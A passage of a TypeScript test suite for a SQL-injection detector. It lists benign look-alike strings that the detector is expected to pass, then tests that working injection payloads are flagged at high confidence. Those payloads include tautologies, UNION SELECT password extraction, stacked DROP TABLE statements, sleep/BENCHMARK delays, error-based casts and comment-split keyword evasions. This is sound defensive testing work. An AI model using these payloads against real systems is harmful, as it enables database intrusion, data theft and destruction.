  ['glob paths', 'glob: src/*/lib/*/index.js and docs/**/*.md'],
  ['windows path with backslash-N words', 'See C:\\Notes\\Nora\\Nunavut trip.docx'],
  // Look-alikes of the bulk / handler / merge vectors: requests after a semicolon.
  ['bulk insert in a support message', 'Hi; bulk insert of products failed with error 4866'],
  ['handler in prose', 'Thanks; handler for the event is broken; handler open hours 9-5'],
  ['merge requests', 'We need to merge accounts; merge into one please; merge the two accounts using my email'],
  ['merge into a branch using a tool', 'Done; merge into main using the web UI when ready'],
  // Look-alikes of the xor-sign vectors: numbers, hashtags, code comments.
  ['numbered items with hash signs', "Room 5 #2 and 3 #4; it's \"late\" or early"],
  ['hash after a quote, prose', "\"Best\" #1 seller -- or so"],
  ['shell-style comments after numbers', 'x = 5 # set x; y = 6 # set y'],
  ['hashtags after a rating', "rating 5 #great #love or 'ok'"],
  // Look-alikes of the CR vectors: CRLF mail with a signature.
  ['crlf mail with dashes', "Thanks -- Bob\r\nPS: it's 1 or 2\r\n-- sent from phone"],
  ['old-mac line ends in prose', "line1 -- note\rline2 or 'x'"],
  // Look-alikes of the double-minus vectors: ranges, product codes, dashes in prose.
  ['double-dash product codes', 'SKU XJ-100--BLK or XJ-100--WHT'],
  ['double-dash ranges', 'Pages 10--12 or 14--16'],
  ['double-dash in prose with a quote', "I tried--and failed--to login; it's 'broken'"],
  ['double-dash score', 'score: 3--1 and 2--2'],
  ['forwarded mail header', '-----Original Message----- From: Bob; Sent: Monday'],
  // Look-alikes of the standard-string vectors: escaped quotes in code, JSON and paths.
  ['escaped quotes in a code line', "str = 'don\\'t' + ' or ' + 'won\\'t'"],
  ['escaped json in a text field', '{\\"name\\":\\"O\'Reilly\\",\\"note\\":\\"it\'s fine or not\\"}'],
  ['windows paths with trailing backslashes', "path = 'C:\\temp\\' or 'D:\\data\\'"],
  ['shell quoting with an escaped quote', "echo 'it\\'s' or echo \"it's\""],
  ['backslash-N word in prose', 'The \\Northern line is delayed'],
  ['distinctrow in prose', 'Union DistinctRow select committee met on Tuesday'],
  ['dollar signs in a price', 'The price is $$5$$ off'],
  ['dollar tags in prose', '$tag$hello$tag$ is how postgres quotes'],
  ['in case when, prose', 'In case when the parcel arrives damaged, then contact us.'],
  ['case when with a column condition', "Use a CASE WHEN status = 'open' THEN 1 ELSE 2 END in your ORDER BY."],
  ['simple case form', 'case region when 1 then 2 else 3 end'],
  ['simple case form, later arms', 'case region when 1 then 2 when 3 then 4 else 5 end'],
  ['case in prose', 'Case-by-case, in case you need it: case 2, case #4'],
  ['order without by, apostrophes', "It's the customer's order, don't ship before Monday"],
  ['exclamation in a review', "The O'Reilly book (2nd edition) arrived; thanks!"],
  ['call and if in a request', "Please call me if it's late!"],
  ['if and do in a sentence', "I don't know if they'll do it"],
  ['update in a request', 'Can you update my address to 5 Elm St, Apt 2?'],
  ['case words after a semicolon', "We're open; case when needed"],
  ['apostrophe in a name', "O'Brien"],
  ['apostrophes in a sentence', "it's 5 o'clock"],
  ['semicolon list', 'salt; pepper'],
  ['ampersand', 'Tom & Jerry'],
  ['comparison prose', 'a < b and c > d'],
  ['heart', '<3'],
  ['select in prose', 'select your size'],
  ['drop in prose', 'drop me a line; or call'],
  ['copy in prose after a semicolon', 'Step 1; copy the file to the drive'],
  ['a committee name', 'European Union Select Committee'],
  ['a request that starts with delete from', 'delete from my list please'],
  ['replace after a semicolon, in a support message', 'The lamp arrived cracked; replace it or refund me please.'],
  ['drop after a semicolon, in English', 'OK; drop me a line when it ships.'],
  ['insert after a semicolon, in English', 'Fine; insert the card and press OK.'],
  ['alter after a semicolon, in English', 'Yes; alter the hem by 2 cm please.'],
  ['exec after a semicolon, in English', 'Noted; exec summary attached.'],
  ['load after a semicolon, in English', 'Agreed; load data tomorrow morning.'],
  ['show tables in English', 'Cool; show tables at the event please.'],
  ['a quoted UI label (single quotes)', "Our team name is 'Drop Table' lol"],
  ['a quoted UI label (double quotes)', 'Click "Delete from list" to remove it'],
  ['a quoted menu item', "Press 'Insert Into Document' then save"],
  ['a quoted button', '"Select All" doesn\'t select all'],
  ["UC Browser's X-UCBrowser-UA header", 'dv(SM-G991B);pr(UCBrowser/13.4.0.1306);ov(Android 10);ss(360*800);pi(1080*2400);bt(UM);pm(1);bv(1);nm(0);im(0);sr(0);nt(1);'],
  ['a sentence with a semicolon and select … from', 'Hello team; select your seats from the list'],
  ['a description with a semicolon and select … from', 'Union Pacific railroad; select routes from Omaha to Denver'],
  ['a sentence that starts with drop table', 'drop table lamps from the order'],
  ['a sentence that starts with insert into', 'insert into my cart please'],
  ['a committee name in a sentence', 'Union Select Committee meeting notes'],
  ['a committee report', 'the European Union Select Committee report on trade'],
  ['copy with a parenthesis in prose', 'Copy (select all) to clipboard, then paste.'],
  ['command prose', 'rm -rf is a dangerous command'],
  ['relative path', 'docs/readme.md'],
  ['url', 'https://example.com/path?x=1&y=2'],
  ['email', 'jane.doe+news@example.org'],
  ['json', '{"name": "Ann", "tags": ["a", "b"], "n": 1}'],
  ['json with apostrophe', '{"name": "O\'Reilly", "ok": true}'],
  ['markdown', '## Notes\n- item one (see [docs](./docs.md))\n- `code` here'],
  ['review prose', "LGTM, but please don't merge until CI is green; also rename `foo` to `bar`."],
  ['accented names', 'José Müller-Lüdenscheidt'],
  ['phone number', '+1 (555) 010-0000'],
  ['price', '$5 & up'],
  ['union station', 'Union Station'],
  ['order by prose', 'order by price'],
  ['arithmetic', '1-2'],
  ['date', '2024-03-05'],
  ['us date', '12/31/2023'],
  ['time', '10:45:00'],
  ['or and sentence', 'Tea or coffee, and a biscuit'],
  ['years', '1950 or 1960'],
  ['half', '7 AND A HALF'],
  ['do or not do', 'DO OR NOT DO'],
  ['inches', 'necklace 16" or 18"'],
  ['inches with hash', '7" #2 needle'],
  ['quoted search', '"LIKE" STAMP'],
  ['quoted ampersand', 'SMALL "&" SIGN'],
  ['rock n roll', "Rock 'n' roll"],
  ['plural possessive', "students' grades and parents' views"],
  ['quoted choices', "'yes' or 'no'"],
  ['union members', 'The union members selected a new leader'],
  ['update prose', 'Please update your profile; delete old entries later'],
  ['having prose', 'Having trouble? Contact support@example.com'],
  ['assignment prose', 'x = 1 and y = 2'],
  ['math', '3 * 4 = 12'],
  ['hashtag', '#throwback to 2019'],
  ['dashes', 'Before -- after'],
  ['search exclusions', "shoes -red -kids --sale"],
  ['code snippet', 'if (a && b) { return c || d; }'],
  ['cpp', 'std::string name;'],
  ['sql words', 'Learn how SELECT, UNION and ORDER BY work'],
  ['call prose', 'Apt is gated; call when you get here'],
  ['do prose', 'And here it starts; do you remember?'],
  ['lone quote', "'"],
  ['lone dashes', '--'],
  ['numbered quote', "'1--"],
  ['quoted number', '"1--"'],
  ['list', '1,1--'],
  ['html', '<a href="/x">link</a>'],
  ['xml', '<?xml version="1.0"?><a b="c"/>'],
  ['product', 'CASE FOR KINDLE WITH KEYBOARD'],
  ['quoted and', '"Dr. Who" and coffee'],
  ['windows path', 'C:\\Users\\me\\file.txt'],
  ['version string', 'v2.0.1-beta+build.5'],
  ['uuid', '3f2504e0-4f89-11d3-9a0c-0305e82c3301'],
  ['base64', 'dGhpcyBpcyBub3QgYW4gYXR0YWNr'],
  ['time window', "We're open 9-5; closed Sundays"],
  ['exec prose', 'exec ('],
  ['user function prose', 'User(foo),junk'],
  // Code and prose shapes that look like SQL to a careless tokenizer.
  ['js dashes string', "console.log('===');"],
  ['js hex colour', "paint(theme.hex('#C0FFEE').dim('x'));"],
  ['mime wildcard', "accept: '*/*',"],
  ['quoted slash', "path: '/'"],
  ['quoted operators', "ops: ['+', '-', '*', '/']"],
  ['regexp exec', "const m = pattern.exec('some text');"],
  ['python sys', 'import sys; sys.path.append(lib)'],
  ['cpp templates', 'Nan::Maybe<v8::Integer> v = Nan::To<v8::Integer>(x);'],
  ['sql inside a js string', "const row = db.prepare('SELECT * FROM users WHERE id = ?').get(id);"],
  ['comment after semicolon', 'ok(re.valid());  // compiled; if not, see re.error();'],
  ['spreadsheet formula', '=CONCAT(UPPER(A1), B1)'],
  ['benchmark prose', 'benchmark (2023) results'],
  ['sleep prose', 'sleep (8 hours)'],
  ['exec prose 2', 'exec summary'],
  ['version prose', 'version (2.0)'],
  ['user agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36'],
  ['accept header', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['cookie header', 'sid=ab12; theme=dark; lang=en'],
  ['and select prose', 'and select the best option'],
  ['sentence with semicolons', 'We ship today; delete the draft later; update me.'],
  ['question with having', 'Having trouble? Write to help@example.com'],
  // Prose that reads `x IN x` (SQL's IN needs parentheses) or has apostrophes.
  ['hand in hand', 'walk side by side and hand in hand'],
  ['day in day out', 'day in day out'],
  ['and day in day out', 'and day in day out'],
  ['in with numbers', '3 in 10 people'],
  ['apostrophe and seller', "it's our best seller"],
  ['apostrophe in a surname', "Jane O'Neil"],
  ['possessive', "My dog's name is Max"],
  ['possessives and dashes', "kids' and parents' --"],
  ['possessives or dashes', "men's or women's --"],
  ['apostrophe then or then dashes', "it's 1 or 2 -- maybe"],
  ['semicolon between possessives', "Bob's; Alice's"],
  // Ranges and casts that are not SQL.
  ['number range with dashes', '10 -- 20'],
  ['cpp namespace', 'absl::numeric'],
  ['cpp nested namespace', 'boost::integer::x'],
  ['values prose', 'Values (honesty, integrity)'],
  ['values in a sentence', "Our values ('a', 'b')"],
  ['heights with primes', '5\u2032 10\u2033 tall'],
  ['coordinates', '40\u00b026\u203246\u2033N'],
  ['api gateway host', 'xyz.execute-api.eu-west-1.amazonaws.com'],
  ['quoted words compared in prose', "'yes' like 'no'"],
  ['semicolon then update in prose', "We're open; update: closed Sundays"],
  ['escaped apostrophe in prose', "it\\''s fine"],
  // Look-alikes of the DO and CASE vectors.
  ['do sleep in a sentence', 'Tired; do sleep (8 hours) please'],
  ['shell loop with do sleep', 'while true; do sleep 1; done'],
  ['shell until loop', 'until curl -s localhost; do sleep 2; done'],
  ['do in a request', 'Yes; do it now.'],
  ['do with a glued parenthesis on a plain word', "Don't do that; do this(instead)"],
  ['case with column conditions after an equals sign', 'total = CASE WHEN qty > 10 THEN price * 0.9 ELSE price END'],
  ['case with is null after a plus', 'salary + CASE WHEN bonus IS NULL THEN 0 ELSE bonus END'],
  ['simple case on a column after an equals sign', "status = CASE code WHEN 1 THEN 'a' ELSE 'b' END"],
  ['case words after equals signs in prose', 'The best case = 2 days; worst case = 2 weeks'],
  ['case by case after an equals sign', 'price = case by case, when in doubt ask'],
  ['case number in prose after an equals sign', 'x = case 5 when the box arrives'],
  // Prose the pre-scan now settles without a walk (results unchanged).
  ['contraction with or', "It's fine or I'll call back"],
  ['question with update', 'Any update on my order?'],
  ['select in a request', 'Select the blue one please'],
  ['delete in a request', 'Delete my account'],
  ['drop in a request', 'Drop me a line when it ships'],
  ['restore and show in a request', 'Please restore my account and show me the invoice'],
  ['and before two words', 'Insert the card and press OK'],
  ['contractions around and', "Don't worry, it's fine and we'll ship today"],
  ['order by in a request', 'Order by Friday please'],
  ['or and and in a list', 'Tea or coffee and a biscuit'],
  // Honest prose found by generated reviews, tickets and chat (fp-hunt): each was sqli.* high.
  ['select after a pronoun, quoted label', 'When I select "All" and then drop the filter, the table is empty.'],
  ['DDL named in a sentence', 'The DROP TABLE statement deletes a table; use TRUNCATE to keep the schema.'],
  ['drop + one word is a search', 'drop shipping'],
  ['drop + one word, capitalised', 'Drop Box'],
  ['alter + one word', 'alter ego'],
  ['quoted UI labels compared', "'select all' or 'node.js'?"],
  ['quoted labels, select alone', "'Select' or 'Deselect'?"],
  ['quoted label then prose', "'Select all' button or 'Clear'?"],
  // s15 hC: lists of names, labels, titles and tags that open with SQL words. A stacked statement is a
  // second statement: no dialect has DROP/ALTER without an object keyword, and a bare-form statement
  // (DELETE t, EXEC p, SHUTDOWN…) after a segment no dialect accepts never runs.
  ['places and companies', 'Union Station; Select Medical; Drop Zone'],
  ['UI menu labels', 'Select all; Insert row; Delete row'],
  ['UI menu labels with a plain word', 'Select All; Deselect; Delete Selected'],
  ['table editor menu', 'Insert row above; Insert row below; Delete row; Delete column'],
  ['changelog line with a heading', 'Update: v2.1; Delete cache'],
  ['changelog line with verbs', 'Changelog: Update deps; Delete unused files; Drop support'],
  ['playlist titles', 'Playlist: Select Hits; Drop Beats; Union Jams'],
  ['band names', 'rock; alter bridge'],
  ['two names, the first DROP', 'Drop Zone; Union Station'],
  ['agenda', 'Agenda: Intro; Exec Summary'],
  ['agenda, lower case', 'agenda: intro; exec summary; q&a'],
  ['film quote', 'Star Wars; Execute Order 66'],
  ['label then reserved word', 'x; Execute Order; y'],
  ['brands', 'Drop Box; Drop Shipping; Union Pacific'],
  ['company and key names', 'Select Comfort; Union Bank; Delete Key'],
  ['release notes', 'New: Select dropdown; Insert image; Drop files'],
  ['account actions', 'Create Account; Update Profile; Delete Account'],
  ['account actions, sign in', 'Sign in; Update password; Delete account'],
  ['admin menu', 'Show Tables; Lock Table; Drop Table'],
  ['invoice actions', 'Print Invoice; Delete Invoice'],
  ['song titles', 'Call Me Maybe; Drop the World; Shutdown'],
  ['arcade words', 'Select Insurance; Insert Coin; Drop Bear'],
  ['history tags', 'Declare Independence; Drop Anchor'],
  ['band name after an apostrophe', "Guns N' Roses; Drop Zone"],
  ['drop of a bare name, numeric context (no dialect has it)', '1; drop users'],
  ['drop of one name ended by a semicolon (no object keyword)', 'Drop staff;'],
  // s15 hC: random 20-character passwords (bench/passwords.ts) that end in a `#` comment with the
  // expression unfinished, a parenthesis open, `]` closing `(`, column-like names after `#`.
  ['password: parenthesis open before #', '(@FfL.v%AtqC*vU#x{qT'],
  ['password: operand missing before #', "'<#FgD<uF8y@U4cU?<s]"],
  ['password: names after an operator before #', "'|G%_i#~(*|+[Q/UZ^DD"],
  ['password: alias then an operator', '(w)C<oKdq#QFrOX@1$6*'],
  ['password: names after a comparison and a parenthesis before #', ".Q'=~+R)#FCzzocF8_QX"],
  ['password: dangling & in a parenthesis', '(M2$PrdJrj,g&#}\\PJPx'],
  ['password: parenthesis open, operator', '(l~7#%nul/osfCUyUK|:'],
  ['password: operand missing after a literal', "JS*Z81v,_'<#[C^%D-VK"],
  ['password: dangling minus in a parenthesis', '(agd,v&_knmt_nBQLm-#'],
  ['password: names in an expression before #', "X%L'/yL~UXI*o1F>T#F]"],
  ['password: T-SQL operator before an unterminated literal', "5!>'fbv[dL`bta>Q3,j*"],
  ['password: ODBC brace before #', "vP*21uWf@'+{OPW#,3{2"],
  ['password: ODBC brace after a double quote', '"*{k#B^)7Y%J\'K$Za/OV'],
  ['password: IS then #', ')iS#Zzd>[f)h^2,:=(Ok'],
  ['password: ] closes (', '(pOEWAjH&_e3ttT]=JR#'],
  ['password: ] closes ( (2)', '(sX]|GxV#P\\>Q8K]>F&n'],
  ['password: JSON ? before a MySQL #', "Q2,,z~9U~4*R'?0#6u>n"],
  // s15 hC: more lists: a bare T-SQL form followed by a segment no dialect accepts (the batch fails
  // to compile), SELECT with no item, GRANT of a plain word, a clause word opening a statement.
  ['agenda with a bare exec in the middle', 'Q3 review; Exec Summary; Next steps'],
  ['agenda, exec in the middle, Q&A last', 'Intro; Exec Summary; Q&A'],
  ['editor menu, delete in the middle', 'x; Delete row; Foo bar'],
  ['empty select then delete', 'Select; Delete row'],
  ['select all then delete', 'Select all; Delete row'],
  ['grant of a plain word', 'grant squad; Exec user'],
  ['clause word opening a segment', 'Join items Station; From Squad; Execute Medical; Anchor all.'],
  ['begin with a name', 'Handler Zone; Begin Zone'],
  // s21 hC: a word quoted in prose (the word is the whole payload; the application's literal follows),
  // a contraction read as typed (`Where's` is WHERE and a literal), a DDL label that ends the value.
  ['quoted like button', "Press the 'like' button"],
  ['quoted or, single quotes', "the word 'or'"],
  ['quoted and and or, double quotes', 'I said "and" not "or".'],
  ['quoted and, a UI instruction', "Type 'and' and press enter"],
  ['where-contraction then a quoted like', "Where's the 'like' button?"],
  ['where-contraction then a quoted select label', "Where's the 'Select all' option?"],
  // s21 rB: kept spared while the nearest attacks above are high.
  ['a quoted OR then prose', "Press the 'or' button"],
  ['a quoted LIKE then two prose words', "Press the 'like' button twice"],
  ['a quoted union select, then prose', "token 'union select' ok"],
  ['drop table label ending the value', "I want a 'Drop Table'"],
  ['drop table label in search syntax', 'tag:"drop table"'],
  ['alter table label then a full stop', "Click 'Alter Table'."],
  ['quoted union select in a question', 'What does "union select" do?'],
  ['quoted union all select in a question', "Is 'union all select' slower?"],
  ['quoted union select as a band name', 'Tickets for "Union Select" band — Friday 9pm'],
];

t.test('positive vectors are detected at high confidence', async (t) => {
  for (const [name, value] of POSITIVE) {
    const d = detectSqlInjection(value);
    t.ok(d !== undefined && d.rule.startsWith('sqli.') && d.confidence === 'high', `${name}: ${JSON.stringify(value)} -> ${JSON.stringify(d)}`);
  }
});

t.test('negative vectors are not high', async (t) => {
  for (const [name, value] of NEGATIVE) {
    const d = detectSqlInjection(value);
    t.ok(d === undefined || d.confidence !== 'high', `${name}: ${JSON.stringify(value)} -> ${JSON.stringify(d)}`);
  }
});

t.test('weaker shapes are reported at medium', async (t) => {
  for (const [name, value] of MEDIUM) {
    const d = detectSqlInjection(value);
    t.ok(d !== undefined && d.rule.startsWith('sqli.') && d.confidence === 'medium', `${name}: ${JSON.stringify(value)} -> ${JSON.stringify(d)}`);
  }
});

t.test('every keyword the walker compares a word with is in the lexer vocabulary', async (t) => {
  // The walker's lexer returns '' for words outside its vocabulary (no allocation per word), so a word
  // compared in the walker but missing from the vocabulary would silently never match.
  const src = readFileSync(join(__dirname, '../../src/detectors/sql-injection.ts'), 'utf8');
  const body = src.slice(src.indexOf('class Walker {'), src.indexOf('// Prefilter'));
  const words = new Set([...body.matchAll(/'([a-z_][a-z0-9_$]{1,31})'/g)].map((m) => m[1] as string));
  t.ok(words.size > 100, `found ${words.size} quoted words in the walker`);
  // Comment examples, and names matched by prefix or raw text (wordAfterNext, wordWithin) rather than as words.
  const exempt = new Set(['a', 'b', 'x', 'xp_', 'sp_', 'sp_oa', 'sp_password', 'infile', 'local', 'low_priority', 'concurrent', 'read', 'matched',
    // ROW_SOURCES: compared with the raw text of a statement's words (labelDeath), not as lexer words.
    'value', 'default', 'output', 'overwrite', 'ignore', 'delayed', 'high_priority', 'partition', 'top', 'with', 'statistics',
    // BEGIN WORK: matched by raw text (wordAt).
    'work',
    // ID_COLUMNS (codeOperand): the raw text of the operand after OR, not lexer words.
    'id', 'rowid', 'uid', 'pk', '_rowid_',
    // BETWEEN SYMMETRIC / ASYMMETRIC (PostgreSQL): matched by raw text after BETWEEN.
    'symmetric', 'asymmetric']);
  const missing = [...words].filter((w) => !exempt.has(w) && !isSqlVocabulary(w));
  t.same(missing, []);
});

t.test('lone quote and lone comment are at most low', async (t) => {
  for (const v of ["'", '"', '--', '#', '/*', "''"]) {
    const d = detectSqlInjection(v);
    t.ok(d === undefined || d.confidence === 'low', `${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
});

t.test('detections carry a rule, a reason without echoing the input, and a confidence', async (t) => {
  const secret = "' UNION SELECT secret_column_name_xyz FROM vault--";
  const d = detectSqlInjection(secret);
  t.ok(d);
  if (d) {
    t.match(d.rule, /^sqli\.[a-z-]+$/);
    t.notOk(d.reason.includes('secret_column_name_xyz'));
    t.ok(d.reason.length > 10 && d.reason.length < 200);
  }
});

t.test('never throws on odd input', async (t) => {
  const odd = ['', 'a', '\u0000', '\ud800', '\udfff\ud800', "'\ud800 or 1=1", '\u0000'.repeat(100), '\uffff\ufffe', "'".repeat(33)];
  for (const v of odd) t.doesNotThrow(() => detectSqlInjection(v));
  // Non-strings from untyped callers.
  t.equal(detectSqlInjection(undefined as unknown as string), undefined);
  t.equal(detectSqlInjection(42 as unknown as string), undefined);
});

t.test('adversarial 1 MB inputs return without throwing', async (t) => {
  const MB = 1 << 20;
  const inputs = [
    '('.repeat(MB),
    ')'.repeat(MB),
    "'".repeat(MB),
    '"'.repeat(MB),
    '`'.repeat(MB),
    '/*'.repeat(MB / 2),
    '*/'.repeat(MB / 2),
    '/*!'.repeat(MB / 3),
    '--'.repeat(MB / 2),
    ' '.repeat(MB),
    '\u000b'.repeat(MB),
    '<'.repeat(MB),
    '../'.repeat(MB / 3),
    'a('.repeat(MB / 2),
    '[a'.repeat(MB / 2),
    '@'.repeat(MB),
    '$a$'.repeat(MB / 3),
    ' or 1=1'.repeat(MB / 7),
    'select '.repeat(MB / 7),
    'case when '.repeat(MB / 10),
    "'a'=".repeat(MB / 4),
    'x/**/y '.repeat(MB / 7),
    '\ud800'.repeat(MB),
    'word '.repeat(MB / 5),
  ];
  for (const v of inputs) {
    t.doesNotThrow(() => detectSqlInjection(v));
  }
  // An attack after a megabyte of prose is still found.
  const d = detectSqlInjection('word '.repeat(MB / 5) + "; drop table users--");
  t.equal(d?.confidence, 'high');
});

t.test('a walk that died in hostile junk still starts over at SQL after it (the sync scan)', async (t) => {
  // The bare walk dies in these runs and skips to the next token that may resynchronise (a `(`,
  // `;` or SYNC word). The skip ends early only where the rest can hold none: every way a sync token
  // can appear after the junk must still be read.
  const junk = ['</a>x', '<a x="', '<', '<a ', ' > ', '!~ '];
  const tails: Array<[string, string]> = [
    ['a stacked statement', '; drop table users--'],
    ['a union glued to a digit', ' 1union select password from users--'],
    ['a keyword split by a comment', ' 1 UN/**/ION SEL/**/ECT password FROM users--'],
    ['a keyword after \\N', ' \\Nunion select password from users--'],
    ['an upper-case sync word', ' 1 OR 1=1--'],
    ['a call after the junk', ' (select sleep(5))--'],
  ];
  for (const j of junk) {
    for (const [name, tail] of tails) {
      const v = j.repeat(2000) + tail;
      t.equal(detectSqlInjection(v)?.confidence, 'high', `${JSON.stringify(j)} then ${name}`);
    }
    // The junk alone: nothing blocked (`<a <a` reads as a comparison: low at most).
    t.not(detectSqlInjection(j.repeat(20000))?.confidence, 'high', `${JSON.stringify(j)} alone`);
  }
});

t.test('`$(` runs (nested calls of an unknown name) stay calls, and a real call inside is still judged', async (t) => {
  t.equal(detectSqlInjection('$('.repeat(50000)), undefined);
  t.equal(detectSqlInjection("1' and " + '$('.repeat(3000) + 'sleep(5)' + ')'.repeat(3000) + '--')?.confidence, 'high');
});

t.test('recall: odd-case delays, integer casts of a call, a trailing prime, SQLite IS, SELECT (CASE', async (t) => {
  // Each: [value, rule]. All high.
  const high: Array<[string, string]> = [
    // A delay function in evasion case, its arguments broken by a comment inside a number.
    ['sLeEp(4/**/2)', 'sqli.time'],
    ['PG_SLeep(3', 'sqli.time'],
    ['BeNcHmArK(40/**/00,sha1(rand()))', 'sqli.time'],
    // A parenthesised call cast to an integer: PostgreSQL's error message carries its text.
    ['(row_to_json(accounts)::text)::int', 'sqli.error'],
    ['.. (row_to_json(accounts)::text)::bigint', 'sqli.error'],
    ["x'||(select string_agg(login,',') from staff)::int||'", 'sqli.error'],
    // A tautology whose last quote a word processor turned into a prime.
    ["'or'2=2\u2032", 'sqli.tautology'],
    ["zz' or 'q'='q\u2032", 'sqli.tautology'],
    // SQLite compares with IS: the breakout literal IS a number, compared again with the app's literal.
    ["' is 7.5 = '", 'sqli.expression'],
    ["' IS 0 <> '", 'sqli.expression'],
    // A SELECT whose item is a CASE expression, cut off inside it.
    ['select (case', 'sqli.statement'],
    ['SELECT (CASE WHEN', 'sqli.statement'],
  ];
  for (const [v, rule] of high) {
    const d = detectSqlInjection(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)}`);
    t.equal(d?.rule.startsWith('sqli.'), true, `class: ${JSON.stringify(v)}`);
    t.equal(d?.rule, rule, `rule: ${JSON.stringify(v)}`);
  }
  // Look-alikes that stay below high.
  const notHigh: string[] = [
    'Sleep (8 hours)',
    'sleep (2023) in review',
    'McSleep(ish) mode', // not a delay function name
    'cast it (as)::int',
    '(x)::int after prose',
    'He is 5\u2032 10\u2033 tall',
    "the kids' toys and parents\u2032",
    'SHELL IS 65 AND 35 POLY',
    'the score is 5 = five',
    "it's 5 o'clock",
    'Select (case sensitive)',
    'SELECT (CASE STUDY)',
    'Select case studies',
  ];
  for (const v of notHigh) t.not(detectSqlInjection(v)?.confidence, 'high', `not high: ${JSON.stringify(v)}`);

  const MB = 1 << 20;
  const big: Record<string, string> = {
    primes: "'or'1=1".repeat(MB / 8) + '\u2032',
    oddCase: 'sLeEp('.repeat(MB / 6),
    casts: '(now())::int'.repeat(MB / 12),
    isNumbers: "' is 1".repeat(MB / 6),
    selectCase: 'select (case '.repeat(MB / 13),
  };
  for (const [name, v] of Object.entries(big)) t.doesNotThrow(() => detectSqlInjection(v), name);
});

t.test('deep parentheses and lone `$` no longer force the walks, and SQL inside or after them is still found', async (t) => {
  // The pre-scan settles these without a walk (nothing a bare walk could mark).
  t.equal(detectSqlInjection('('.repeat(100000)), undefined);
  t.equal(detectSqlInjection('$( '.repeat(20000)), undefined);
  t.equal(detectSqlInjection('(((((((((((((((((((((((((((((((((((((((((((((((((((1=1'), undefined);
  t.equal(detectSqlInjection('a$(1)=a$(1)'), undefined);
  // ...while SQL past any depth, or next to a `$`, still walks and is judged as before.
  t.equal(detectSqlInjection('('.repeat(200) + 'select password from users where 1=1--')?.rule, 'sqli.tautology');
  t.equal(detectSqlInjection("1' or " + '('.repeat(100) + '1=1' + ')'.repeat(100) + '--')?.confidence, 'high');
  t.equal(detectSqlInjection('1 ' + '('.repeat(60) + 'or 1=1--')?.confidence, 'high');
  t.equal(detectSqlInjection('$('.repeat(100) + ' 1 union select password from users--')?.rule, 'sqli.union');
  t.equal(detectSqlInjection('$( '.repeat(1000) + '$$x$$ or 1=1--')?.rule, 'sqli.tautology');
  t.equal(detectSqlInjection('x=$ or 1=1')?.confidence, 'high');
  // `$ = $` compares the same name twice: low, as before (the key candidate is not trusted for `$`).
  t.equal(detectSqlInjection('$ = $')?.confidence, 'low');
});

t.test('comparison chains between plain names read as their tokens would (compareChain)', async (t) => {
  // The walker reads `<op> <name>` links from the text in one scan; the verdicts are those the token
  // by token walk gave (checked against the build before the scan). Chains that break (`b a`), end
  // open, meet a keyword, a call, a dot, a comment or a quote hand over to the tokens.
  const chain = (u: string, n: number): string => u.repeat(n);
  const cases: Array<[string, string, string | undefined]> = [
    ['a chain broken by two names', chain('a < b ', 3000) + 'c < c', undefined],
    ['a chain ending on an operator', chain('a < b ', 3000) + 'c <', undefined],
    ['a tautology after 90 KB of `<a `', chain('<a ', 30000) + "x' or 1=1--", 'sqli.tautology/high'],
    ['a chain after a quote breakout', "q' < " + chain('a = b > ', 2000) + 'b', undefined],
    ['a chain after a number, then a comment', '1 < ' + chain('a < b ', 2000) + 'b--', undefined],
    ['UNION after a chain', chain('x=y ', 20000) + ' union select pass from users--', 'sqli.union/high'],
    ['a delay call closing a chain', chain('a < ', 2000) + 'sleep(5)', 'sqli.time/high'],
    ['OR after a chain', chain('a < ', 2000) + 'or 1=1', 'sqli.tautology/high'],
    ['a qualified name closing a chain', chain('a > ', 2000) + 'b.c', undefined],
    ['a form value made of a chain', 'k=' + chain('a<b<', 2000) + 'a<a', 'sqli.boolean/low'],
    ['a comment inside a chain', chain('a < ', 500) + 'b /**/ < a < a', 'sqli.boolean/low'],
    ['glued operators', chain('a<', 3000) + 'a', 'sqli.boolean/low'],
    ['names of 36 characters', chain('abcdefghijklmnopqrstuvwxyz0123456789 = ', 300) + 'x = x', 'sqli.boolean/low'],
    ['one link, the same name twice', 'a < a', 'sqli.boolean/low'],
    ['two links ending on the same name', 'a = b = b', 'sqli.boolean/low'],
    ['a keyword inside the chain', 'a < b < null < c', undefined],
  ];
  for (const [name, value, want] of cases) {
    const d = detectSqlInjection(value);
    t.equal(d === undefined ? undefined : `${d.rule}/${d.confidence}`, want, name);
  }
});

t.test('no keyword of the vocabulary is one character long (the lexer skips the look-up for those)', async (t) => {
  for (let c = 32; c < 127; c++) t.notOk(isSqlVocabulary(String.fromCharCode(c).toLowerCase()), String.fromCharCode(c));
});

t.test('runs of adjacent literals (read in one lexer loop) keep their verdicts', async (t) => {
  const rule = (s: string): string => {
    const d = detectSqlInjection(s);
    return d === undefined ? '-' : `${d.rule}/${d.confidence}`;
  };
  // The last literal of a run decides the walk's end: `' or '' '` leaves the application's quote open.
  t.equal(rule("' or '' '"), 'sqli.tautology/high');
  t.equal(rule("' or '' or '' or '' or ''"), 'sqli.boolean/medium');
  t.equal(rule("'a' 'b' 'c' or 'x'='x"), 'sqli.tautology/high');
  // A comment or NUL between literals is read token by token (the run stops there).
  t.equal(rule("'a' /**/ 'b' union select 1--"), 'sqli.union/high');
  t.equal(rule("'a'\u0000'b' or 1=1--"), 'sqli.tautology/high');
  // Non-ASCII blanks and prefixed literals break a run but not the walk.
  t.equal(rule("x' 'a'\u00a0'b' or 'q'='q"), 'sqli.tautology/high');
  t.equal(rule("1' 'a' N'b' 'c' or 1=1#"), 'sqli.tautology/high');
  t.equal(rule(`'"'"' union select password from users--`), 'sqli.union/high');
  // A long quote run is nothing; what follows it still counts.
  t.equal(rule(`'"`.repeat(5000)), '-');
  t.equal(rule(`'"`.repeat(5000) + "' or 1=1--"), 'sqli.tautology/high');
  t.equal(rule(`'`.repeat(4001)), '-');
  t.equal(rule(`"`.repeat(4000) + ' or 1=1--'), 'sqli.tautology/high');
});

t.test('a walk that dies early: what it may start over at is still found after long hostile runs', async (t) => {
  const rule = (s: string): string => {
    const d = detectSqlInjection(s);
    return d === undefined ? '-' : `${d.rule}/${d.confidence}`;
  };
  const pad = '</a>x'.repeat(40);
  const lt = '<'.repeat(200);
  // No mark anywhere (no `(`, `;`, `\`, `/*`, non-ASCII character or SYNC word): nothing.
